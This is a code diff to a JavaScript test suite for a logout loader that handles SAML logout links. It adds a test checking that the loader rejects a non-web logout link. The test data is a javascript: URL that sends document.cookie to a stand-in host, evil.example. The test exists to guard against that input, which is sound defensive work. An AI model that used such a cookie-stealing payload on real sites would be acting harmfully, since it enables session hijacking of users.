@@ -122,6 +122,21 @@ describe('logoutLoader (/sair)', () => {
     });
 
     expect(await logoutLoader(queryClient)).toBeNull();
-    expect(assign).toHaveBeenCalledWith('/');
+    expect(assign).toHaveBeenCalledWith(new URL('/', window.location.origin).href);
+  });
+
+  it('still ends with a full load of the base address when the logout link is not a web address', async () => {
+    const assign = vi.fn();
+    vi.stubGlobal('location', { ...window.location, assign });
+    vi.spyOn(console, 'warn').mockImplementation(() => {});
+    const queryClient = new QueryClient();
+    queryClient.setQueryData(publicConfigQueries.institution().queryKey, {
+      ...institution,
+      usaSAML: true,
+      link_logout_saml: 'javascript:fetch("//evil.example/?"+document.cookie)',
+    });
+
+    expect(await logoutLoader(queryClient)).toBeNull();
+    expect(assign.mock.calls).toEqual([[new URL('/', window.location.origin).href]]);
   });
 });
